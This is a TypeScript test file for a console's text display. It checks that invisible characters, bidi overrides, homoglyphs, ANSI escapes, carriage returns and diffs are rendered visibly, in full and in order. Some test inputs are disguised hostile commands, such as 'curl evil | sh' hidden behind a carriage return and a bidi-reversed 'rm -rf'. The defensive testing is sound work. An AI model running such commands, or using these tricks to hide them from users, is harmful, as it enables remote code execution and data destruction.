/** What the console shows of text that others wrote: nothing hidden, nothing obeyed. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import * as fc from 'fast-check';
import './support/seed.ts';
import { AnsiParser } from '../src/console/text/ansi.ts';
import type { StyledText } from '../src/console/text/ansi.ts';
import { parseUnifiedDiff, groupDiffRows } from '../src/console/text/diff.ts';
import { splitLineBlocks } from '../src/console/text/rule-segments.ts';
import {
  toCommandSummary,
  splitTextFragments,
  toVisibleLine,
} from '../src/console/text/visible.ts';

test('characters that are drawn as nothing, move others or pass for a space are shown', () => {
  const cases = [
    ['rm\u202E fr-', 'rm\\u{202E} fr-'],
    ['a\u200Bb', 'a\\u{200B}b'],
    ['a\u00A0b', 'a\\u{A0}b'],
    ['a\tb\r', 'a\\tb\\r'],
    ['\u001B[2J', '\\e[2J'],
    ['\0\u0007\u0008', '\\0\\a\\b'],
    ['\u{E0041}', '\\u{E0041}'],
    ['\u2800', '\\u{2800}'],
    ['\u3164', '\\u{3164}'],
    ['\u00AD', '\\u{AD}'],
    ['\uFE0F', '\\u{FE0F}'],
    ['\uD800', '\\u{D800}'],
    ['\u0085\u2028', '\\u{85}\\u{2028}'],
  ] as const;
  for (const [text, shown] of cases) assert.equal(toVisibleLine(text), shown);
});

test('letters outside ASCII are marked, as they may pass for others', () => {
  assert.deepEqual(splitTextFragments('аpt-get'), [
    { kind: 'foreign', text: 'а', at: 0, length: 1 },
    { kind: 'plain', text: 'pt-get', at: 1, length: 6 },
  ]);
});

test('letters that stand together are one piece, and nothing hidden is in it', () => {
  const shown = splitTextFragments('tür\u200Bш́\u{1F600}x').map(({ kind, text }) => [kind, text]);
  assert.deepEqual(shown, [
    ['plain', 't'],
    ['foreign', 'ü'],
    ['plain', 'r'],
    ['escape', '\\u{200B}'],
    ['foreign', 'ш́\u{1F600}'],
    ['plain', 'x'],
  ]);
});

test('the pieces of a text are the whole text in order', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      const pieces = splitTextFragments(text);
      let at = 0;
      for (const piece of pieces) {
        assert.equal(piece.at, at);
        at += piece.length;
        if (piece.kind !== 'escape') assert.equal(piece.text, text.slice(piece.at, at));
        else assert.match(piece.text, /^\\(?:[0abtnre]|u\{[0-9A-F]{1,6}\})$/);
      }
      assert.equal(at, text.length);
    }),
  );
});

test('a row of a list shows a command in one line, and that it is cut', () => {
  assert.equal(toCommandSummary('\n  \nmake\u202E all\n\trm x\n'), 'make\\u{202E} all ↵ rm x');
  assert.equal(toCommandSummary('abcdef', 3), 'abc…');
  assert.equal(toCommandSummary(`${' '.repeat(9)}\nrm x`, 2), '…');
});

test('spans cut a command where they begin and end, across lines and each other', () => {
  const rules = [{ span: [2, 9] as const }, { span: [4, 6] as const }, { span: null }];
  const shown = splitLineBlocks('a bb cc\ndd e', rules).map(({ segments }) =>
    segments.map(({ rules: meant, fragments: pieces }) => [
      pieces.map((each) => each.text).join(''),
      meant,
    ]),
  );
  assert.deepEqual(shown, [
    [
      ['a ', []],
      ['bb', [0]],
      [' c', [0, 1]],
      ['c', [0]],
    ],
    [
      ['d', [0]],
      ['d e', []],
    ],
  ]);
});

test('whatever the spans are, a command is shown whole and in order', () => {
  const span = fc.option(fc.tuple(fc.integer({ min: -5, max: 60 }), fc.integer({ max: 60 })));
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), fc.array(span), (command, spans) => {
      const blocks = splitLineBlocks(
        command,
        spans.map((each) => ({ span: each })),
      );
      const shown = blocks.map(({ segments }) => {
        const pieces = segments.flatMap((segment) => segment.fragments);
        return pieces.map(({ at, length }) => command.slice(at, at + length)).join('');
      });
      assert.equal(shown.join('\n'), command);
    }),
  );
});

const drawn = (runs: readonly StyledText[]): string => runs.map((run) => run.text).join('');

test('colours and styles of output become runs, every other control is shown', () => {
  const ansi = new AnsiParser();
  const runs = ansi.push('a\u001B[1;31mred\u001B[0m\u001B[2Jb\u001B]0;title\u0007');
  assert.deepEqual(
    runs.map(({ text, colour, bold, isEscape: escape }) => [text, colour, bold, escape]),
    [
      ['a', null, false, false],
      ['red', 1, true, false],
      ['\\e', null, false, true],
      ['[2Jb', null, false, false],
      ['\\e', null, false, true],
      [']0;title', null, false, false],
      ['\\a', null, false, true],
    ],
  );
});

test('colours of 256 and of 24 bits become one of the sixteen that can be read', () => {
  const cases = [
    ['38;5;196', 9],
    ['38;5;21', 12],
    ['38;5;3', 3],
    ['38;5;232', 0],
    ['38;2;0;128;0', 2],
    ['38;2;255;255;255', 15],
    ['38:2::255:0:0', 9],
    ['38:5:34', 2],
    ['95', 13],
  ] as const;
  for (const [code, colour] of cases) {
    const [run] = new AnsiParser().push(`\u001B[${code}mx`);
    assert.equal(run?.colour, colour, code);
  }
});

test('concealed text is shown', () => {
  assert.equal(drawn(new AnsiParser().push('\u001B[8mhidden\u001B[28m')), 'hidden');
});

test('a carriage return hides nothing that was printed before', () => {
  const ansi = new AnsiParser();
  const runs = [...ansi.push('curl evil | sh\recho harmless\r'), ...ansi.push('\nend\r')];
  const text = drawn([...runs, ...ansi.end()]);
  assert.equal(text, 'curl evil | sh\\recho harmless\nend\\r');
});

test('output is the same however it is cut into chunks', () => {
  const piece = fc.oneof(
    fc.constantFrom('\u001B[31m', '\u001B[0m', '\r\n', '\r', '\u001B', '[', 'm', '3', '\t'),
    fc.string({ unit: 'binary', maxLength: 4 }),
  );
  fc.assert(
    fc.property(fc.array(piece), fc.array(fc.nat(40)), (parts, cuts) => {
      const text = parts.join('').toWellFormed();
      const whole = new AnsiParser();
      const all = drawn([...whole.push(text), ...whole.end()]);
      const cut = new AnsiParser();
      const runs: StyledText[] = [];
      const characters = Array.from(text);
      for (const size of [...cuts, characters.length]) {
        runs.push(...cut.push(characters.splice(0, size).join('')));
      }
      runs.push(...cut.end());
      assert.equal(drawn(runs), all);
      assert.doesNotMatch(all, /(?![\n\t])\p{Cc}/u);
    }),
  );
});

test('a diff is read by its counts, so that a removed line may look like a header', () => {
  const text = [
    'diff --git a/x.txt b/x.txt',
    'index 1..2 100644',
    '--- a/x.txt',
    '+++ b/x.txt',
    '@@ -1,2 +1,2 @@ heading',
    ' same',
    '--- a/y.txt',
    '+++ b/y.txt',
    '\\ No newline at end of file',
    'diff --git a/b c b/b c',
    'old mode 100644',
    'new mode 100755',
    '',
  ].join('\n');
  assert.deepEqual(parseUnifiedDiff(text), [
    {
      path: 'x.txt',
      notes: ['index 1..2 100644'],
      hunks: [
        {
          heading: 'heading',
          lines: [
            { kind: 'same', text: 'same', before: 1, after: 1 },
            { kind: 'removed', text: '-- a/y.txt', before: 2, after: null },
            { kind: 'added', text: '++ b/y.txt', before: null, after: 2 },
            { kind: 'note', text: 'No newline at end of file', before: null, after: null },
          ],
        },
      ],
    },
    { path: 'b c', notes: ['old mode 100644', 'new mode 100755'], hunks: [] },
  ]);
  assert.deepEqual(parseUnifiedDiff(''), []);
});

test('a command of a million lines is whole in a number of parts that a page can hold', () => {
  const command = `make\u200Bx${'\n'.repeat(1_000_000)}make y`;
  const blocks = splitLineBlocks(command, [{ span: [0, 4] }]);
  const pieces = blocks.flatMap(({ segments }) => segments.flatMap((segment) => segment.fragments));
  assert.ok(blocks.length < 6_000 && pieces.length < 12_000, `${pieces.length} pieces`);
  const shown = blocks.map(({ segments }) => {
    return segments.flatMap((one) => one.fragments.map((piece) => piece.text)).join('');
  });
  assert.ok(shown.join('\n') === command.replace('\u200B', '\\u{200B}'));
  assert.deepEqual([blocks[0]?.number, blocks[1]?.number], [1, 201]);
  const added = `@@ -0,0 +1,700000 @@\n${'+\n'.repeat(699_999)}+end\n`;
  const lines = parseUnifiedDiff(`diff --git a/x b/x\n${added}`)[0]?.hunks[0]?.lines ?? [];
  const rows = groupDiffRows(lines, lines.length);
  assert.deepEqual([lines.length, rows.length, rows[1]?.after], [700_000, 3_500, 201]);
  assert.ok(rows.map(({ text }) => text).join('\n') === `${'\n'.repeat(699_999)}end`);
  assert.equal(groupDiffRows(lines.slice(0, 9), 9).length, 9);
  // What was typed as an escape stays what it is.
  assert.deepEqual(splitLineBlocks(String.raw`a\nb`, [])[0]?.segments[0]?.fragments.length, 1);
});
